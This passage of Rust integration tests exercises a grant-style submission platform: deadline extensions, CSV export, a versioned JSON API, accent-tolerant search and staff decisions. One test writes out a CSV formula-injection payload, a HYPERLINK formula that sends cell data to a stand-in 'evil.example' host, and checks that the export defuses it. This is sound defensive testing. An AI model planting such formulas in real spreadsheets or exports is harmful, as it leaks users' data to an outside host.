        StatusCode::FORBIDDEN
    );
    let response = setup.staff.post_form(extend, &[("closes_at", "2099-06-30T18:00")]).await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let (subject, body) = setup.app.last_email_to("ana@gov.example").await.expect("the applicant is told");
    assert_eq!(subject, "More time to apply: Call for challenges");
    // The programme's zone is UTC; Ana reads times in Paris, as her pages show them.
    assert!(body.contains("30 June 2099, 20:00 CEST"), "{body}");
    assert!(setup.app.last_email_to("staff@opsi.example").await.is_none());
    assert_eq!(setup.app.count("select count(*) from audit_log where action = 'call.deadline_extended'").await, 1);
    assert_eq!(setup.app.count("select count(*) from calls where closes_at = '2099-06-30T18:00:00Z'").await, 1);
}

#[tokio::test]
async fn staff_export_a_calls_submissions_as_csv_with_one_column_per_question() {
    let setup = setup().await;
    let draft = start(&setup).await;
    fill(&setup, &draft).await;
    let csv_path = format!("{}.csv", setup.call.list_path());
    assert_eq!(setup.team.get(&csv_path).await.status(), StatusCode::FORBIDDEN);
    let response = setup.staff.get(&csv_path).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["content-type"], "text/csv; charset=utf-8");
    assert_eq!(
        response.headers()["content-disposition"],
        "attachment; filename=\"incubator-challenges.csv\"; filename*=UTF-8''incubator-challenges.csv"
    );
    let body = response.text().await.unwrap();
    let body = body.trim_start_matches('\u{feff}');
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
    assert_eq!(&headers[..3], ["id", "status", "title"]);
    assert_eq!(&headers[headers.len() - 2..], ["Who is affected?", "Team size"]);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][2], "Equitable digital participation");
    assert_eq!(&rows[0][5], "BR");
    assert_eq!(&rows[0][6], "south-america");
    assert_eq!(&rows[0][headers.len() - 2], "Black people in urban peripheries");
    assert_eq!(&rows[0][headers.len() - 1], "6-20");
}

#[tokio::test]
async fn the_csv_export_never_hands_a_spreadsheet_a_formula_and_splits_back_exactly() {
    let setup = setup().await;
    let options = ["Health", "Housing, land"];
    let sectors = NewQuestion {
        required: false,
        options: &options,
        ..NewQuestion::new("Your team", "Sectors", "multiple_choice")
    };
    setup.staff.add_question(&setup.call, sectors).await;
    let draft = start(&setup).await;
    let title = r#"=HYPERLINK("https://evil.example/?x="&A1,"Open")"#;
    setup.team.write_about(&draft, title, "@SUM(1+1)").await;
    let (part, field) = setup.team.find_question(&setup.call, "Sectors").await;
    let form = setup.team.open(&draft.part(part)).await;
    let saved = form.send(&setup.team, &[(field.as_str(), "Health"), (field.as_str(), "Housing, land")]).await;
    assert_eq!(saved.status(), StatusCode::SEE_OTHER);

    let body = setup.staff.get(&format!("{}.csv", setup.call.list_path())).await.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
    let row = reader.records().next().expect("one row").unwrap();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    // Formulas are text to a spreadsheet; what was typed is still all there after the quote.
    assert_eq!(&row[column("title")], format!("'{title}"));
    assert_eq!(&row[column("summary")], "'@SUM(1+1)");
    // Two options, one holding a comma: one per line, so they split back as they were.
    let chosen: Vec<&str> = row[column("Sectors")].split('\n').collect();
    assert_eq!(chosen, options);
}

#[tokio::test]
async fn submissions_have_a_json_twin_with_versions_and_problem_documents() {
    let setup = setup().await;
    let org = setup.organisation.to_string();
    let created = setup
        .team
        .send_json(reqwest::Method::POST, &setup.call.api_list_path(), &serde_json::json!({ "organisation": org }))
        .await;
    assert_eq!(created.status(), StatusCode::CREATED);
    let created: serde_json::Value = created.json().await.unwrap();
    let id = created["id"].as_str().unwrap().to_string();
    assert_eq!(created["status"], "draft");
    assert_eq!(created["version"], 1);
    let path = format!("/api/v1/t/opsi/submissions/{id}");
    let question_id = async |label| {
        let (_, field) = setup.team.find_question(&setup.call, label).await;
        field.trim_start_matches("q_").to_string()
    };
    let (q0, q1) = (question_id("Who is affected?").await, question_id("Team size").await);
    let update = serde_json::json!({ "version": 1, "title": "Via the API", "summary": "A summary", "answers": { q0.clone(): "People", q1.clone(): "1-5" } });
    let updated = setup.team.send_json(reqwest::Method::PATCH, &path, &update).await;
    assert_eq!(updated.status(), StatusCode::OK);
    let updated: serde_json::Value = updated.json().await.unwrap();
    assert_eq!(updated["version"], 2);
    assert_eq!(updated["content"]["answers"][&q1], "1-5");
    let stale = setup.team.send_json(reqwest::Method::PATCH, &path, &update).await;
    assert_eq!(stale.status(), StatusCode::CONFLICT);
    let unknown = setup
        .team
        .send_json(
            reqwest::Method::PATCH,
            &path,
            &serde_json::json!({ "version": 2, "answers": { uuid::Uuid::now_v7().to_string(): "x" } }),
        )
        .await;
    assert_eq!(unknown.status(), StatusCode::BAD_REQUEST);
    let submitted = setup
        .team
        .send_json(reqwest::Method::POST, &format!("{path}/submit"), &serde_json::json!({ "version": 2 }))
        .await;
    assert_eq!(submitted.status(), StatusCode::OK);
    assert_eq!(submitted.json::<serde_json::Value>().await.unwrap()["status"], "submitted");
    // Once submitted, an edit that would make it incomplete is refused with field errors.
    let emptied =
        setup.team.send_json(reqwest::Method::PATCH, &path, &serde_json::json!({ "version": 3, "title": "" })).await;
    assert_eq!(emptied.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let problem: serde_json::Value = emptied.json().await.unwrap();
    assert_eq!(problem["errors"][0]["field"], "title");
    assert_eq!(
        setup.app.count("select count(*) from submissions where title = 'Via the API' and status = 'submitted'").await,
        1
    );

    let list: serde_json::Value =
        setup.staff.get(&format!("{}?status=submitted", setup.call.api_list_path())).await.json().await.unwrap();
    assert_eq!(list["items"][0]["title"], "Via the API");
    assert_eq!(setup.team.get(&setup.call.api_list_path()).await.status(), StatusCode::FORBIDDEN);
    let withdrawn = setup
        .team
        .send_json(reqwest::Method::POST, &format!("{path}/withdraw"), &serde_json::json!({ "version": 3 }))
        .await;
    assert_eq!(withdrawn.json::<serde_json::Value>().await.unwrap()["status"], "withdrawn");
}

#[tokio::test]
async fn staff_search_forgives_accents_word_forms_and_scripts_written_without_spaces() {
    // Each title, and what a person types to find it (issue 11 §4). Under PostgreSQL's `simple`
    // configuration none of these searches found its entry.
    let setup = setup().await;
    let entries = [
        ("Participación ciudadana en Bogotá", ["participacion", "Bogota"]),
        ("Digital permits for cities", ["city", "permit"]),
        ("智慧城市数据平台", ["城市", "数据平台"]),
        ("Démarches en ligne pour les collectivités", ["collectivite", "demarche"]),
        ("Saúde digital para comunidades rurais", ["saude", "comunidade"]),
    ];
    for (title, _) in &entries {
        let draft = start(&setup).await;
        setup.team.write_about(&draft, title, "").await;
    }
    for (title, searches) in &entries {
        for words in searches {
            let query: String = url::form_urlencoded::Serializer::new(String::new()).append_pair("q", words).finish();
            assert_eq!(setup.staff.list_titles(&setup.call, &query).await, [*title], "{words:?} finds {title:?}");
        }
    }
    // Characters of a script without spaces must stand side by side, in the order typed.
    let reversed = url::form_urlencoded::Serializer::new(String::new()).append_pair("q", "市城").finish();
    assert!(setup.staff.list_titles(&setup.call, &reversed).await.is_empty());
    // Only stop words: nothing to look for, nothing found.
    assert!(setup.staff.list_titles(&setup.call, "q=the").await.is_empty());
    // Readings that agree are ORed once: 'zebra' | 'zebr', not five branches, which made the
    // planner judge a rare word common and read the whole list in order.
    let nodes: i32 =
        sqlx::query_scalar("select numnode(search_query('zebra'))").fetch_one(&setup.app.pool).await.unwrap();
    assert_eq!(nodes, 3);
    // The web search syntax still holds: a word to leave out, and a phrase.
    assert!(setup.staff.list_titles(&setup.call, "q=permits+-digital").await.is_empty());
    assert_eq!(setup.staff.list_titles(&setup.call, "q=%22digital+permits%22").await, ["Digital permits for cities"]);
}

#[tokio::test]
async fn a_search_finds_the_same_rows_in_the_same_order_whether_its_words_are_common_or_rare() {
    // The list answers a search by reading its first pages in order when the words are common,
    // and through the planner when they are not (store::list_for_call). Both must give the
    // rows a search over everything gives, in order, across pages and with the other filters.
    let setup = setup().await;
    let finn = setup.app.create_user("finn@gov.example", "Finn").await;
    let finnish = setup.app.create_organisation(setup.tenant, "Data Room", "FI", finn).await;
    // 900 submissions: "common" in every second, "middling" in every tenth, "rare" in every
    // fortieth, and "rare" also in the title of the very last; one in seven a draft; the two
    // organisations alternate in runs of three; times tie in groups, so ids break the ties.
    sqlx::query(
        "insert into submissions (tenant_id, id, call_id, organisation_id, status, title, summary, created_at, updated_at)
         select $1, gen_random_uuid(), c.id, case when (g / 3) % 2 = 0 then $2 else $3 end,
                case when g % 7 = 0 then 'draft' else 'submitted' end,
                case when g = 900 then 'Rare entry ' else 'Entry ' end || g,
                concat_ws(' ', 'filler', case when g % 2 = 0 then 'common' end,
                          case when g % 10 = 0 then 'middling' end, case when g % 40 = 0 then 'rare' end),
                timestamptz '2024-03-01' + (g / 4) * interval '1 minute',
                timestamptz '2024-04-01' - (g % 13) * interval '1 minute'
         from calls c, generate_series(1, 900) g where c.tenant_id = $1 and c.slug = 'challenges'",
    )
    .bind(setup.tenant)
    .bind(setup.organisation)
    .bind(finnish)
    .execute(&setup.app.pool)
    .await
    .unwrap();
    let list = setup.call.api_list_path();
    let (everything, _) = every_page(&setup.staff, &format!("{list}?sort=oldest")).await;
    assert_eq!(everything.len(), 900);
    let summaries: std::collections::HashMap<String, String> =
        sqlx::query_as::<_, (uuid::Uuid, String)>("select id, title || ' ' || summary from submissions")
            .fetch_all(&setup.app.pool)
            .await
            .unwrap()
            .into_iter()
            .map(|(id, text)| (id.to_string(), text.to_lowercase()))
            .collect();
    let text = |item: &serde_json::Value| summaries[item["id"].as_str().unwrap()].clone();
    let field = |item: &serde_json::Value, name: &str| item[name].as_str().unwrap().to_string();

    for words in ["common", "middling", "rare", "common middling", "absent"] {
        for (filters, keep) in [
            ("", (|_: &serde_json::Value| true) as fn(&serde_json::Value) -> bool),
            ("&status=submitted", |i| i["status"] == "submitted"),
            ("&country=fi", |i| i["country_code"] == "FI"),
        ] {
            for sort in ["newest", "title"] {
                let query = format!("{list}?sort={sort}&q={}{filters}", words.replace(' ', "+"));
                let (found, _) = every_page(&setup.staff, &query).await;
                let mut expected: Vec<serde_json::Value> = everything
                    .iter()
                    .filter(|i| keep(i) && words.split(' ').all(|w| text(i).split(' ').any(|t| t == w)))
                    .cloned()
                    .collect();
                match sort {
                    "newest" => expected.sort_by_key(|i| std::cmp::Reverse((field(i, "created_at"), field(i, "id")))),
                    _ => expected.sort_by_key(|i| (field(i, "title").to_lowercase(), field(i, "id"))),
                }
                let ids = |items: &[serde_json::Value]| items.iter().map(|i| field(i, "id")).collect::<Vec<_>>();
                assert_eq!(ids(&found), ids(&expected), "{query}");
                assert_eq!(found.is_empty(), words == "absent", "{query}");
            }
        }
    }
    // The counts the checks above rest on, so that neither path goes untested.
    let count = |word: &str| everything.iter().filter(|i| text(i).split(' ').any(|t| t == word)).count();
    assert_eq!((count("common"), count("middling"), count("rare")), (450, 90, 23));

    // The page gives the same first rows as the API.
    let (status, page) = setup.staff.get_html(&format!("{}?q=rare&status=submitted", setup.call.list_path())).await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("Rare entry 900"), "a word in the title is found");
    // A status that does not exist is refused, search or not (it used to match nothing).
    let unknown = setup.staff.get(&format!("{list}?status=archived&q=common")).await;
    assert_eq!(unknown.status(), StatusCode::UNPROCESSABLE_ENTITY);
}

#[tokio::test]
async fn a_decision_is_the_one_way_an_entry_becomes_selected_as_json() {
    let setup = setup().await;
    let draft = start(&setup).await;
    fill(&setup, &draft).await;
    let path = format!("/api/v1/t/opsi/submissions/{}/decision", draft.id());
    let selected = serde_json::json!({ "version": 0, "outcome": "selected", "rationale": "Strong and transferable" });
    // A draft cannot be decided; a submitted entry can, by staff only, with a rationale.
    let early = setup.staff.send_json(reqwest::Method::PUT, &path, &selected).await;
    assert_eq!(early.status(), StatusCode::CONFLICT);
    setup.team.submit(&draft).await;
    let by_team = setup.team.send_json(reqwest::Method::PUT, &path, &selected).await;
    assert_eq!(by_team.status(), StatusCode::FORBIDDEN);
    let bare = serde_json::json!({ "version": 0, "outcome": "selected", "rationale": " " });
    let refused = setup.staff.send_json(reqwest::Method::PUT, &path, &bare).await;
    assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let problem: serde_json::Value = refused.json().await.unwrap();
    assert_eq!(problem["errors"][0]["field"], "rationale");
    assert_eq!(setup.app.count("select count(*) from decisions").await, 0);
    assert_eq!(setup.staff.send_json(reqwest::Method::PUT, &path, &selected).await.status(), StatusCode::OK);

    // Until released: the team reads "under review", nothing is selected, no email is written.
    let view: serde_json::Value = setup.team.get(&path).await.json().await.unwrap();
    assert_eq!((view["status"].as_str(), view["decision"].is_null()), (Some("under_review"), true));
    assert_eq!(setup.app.count("select count(*) from submissions where selected_at is not null").await, 0);
    let release = "/api/v1/t/opsi/programmes/incubator/calls/challenges/decisions/release";
    let released = setup.staff.send_json(reqwest::Method::POST, release, &serde_json::json!({})).await;
    assert_eq!(released.status(), StatusCode::OK);
    assert_eq!(setup.app.count("select count(*) from submissions where selected_at is not null").await, 1);
    let view: serde_json::Value = setup.team.get(&path).await.json().await.unwrap();
    assert_eq!(view["status"], "selected");
    assert_eq!(view["decision"]["rationale"], "", "staff's reasons stay with staff");
    assert_eq!(view["decision"]["participation"], "pending");
    let (subject, body) = setup.app.last_email_to("ana@gov.example").await.expect("the team is emailed");
    assert_eq!(subject, "Your challenge has been selected: Equitable digital participation");
    assert!(
        body.contains("PLEASE CONFIRM") && body.contains(&format!("/t/opsi/submissions/{}/decision", draft.id())),
        "{body}"
    );

    // Released, the decision stands; the team confirms, once.
    let again = serde_json::json!({ "version": 2, "outcome": "rejected", "rationale": "Changed our minds" });
    assert_eq!(setup.staff.send_json(reqwest::Method::PUT, &path, &again).await.status(), StatusCode::CONFLICT);
    let confirmed =
        setup.team.send_json(reqwest::Method::POST, &format!("{path}/confirm"), &serde_json::json!({})).await;
    assert_eq!(confirmed.status(), StatusCode::OK);
    assert_eq!(confirmed.json::<serde_json::Value>().await.unwrap()["decision"]["participation"], "confirmed");
    let twice = setup.team.send_json(reqwest::Method::POST, &format!("{path}/confirm"), &serde_json::json!({})).await;
    assert_eq!(twice.status(), StatusCode::CONFLICT);
    assert_eq!(setup.app.count("select count(*) from audit_log where action = 'submission.decided'").await, 1);
}
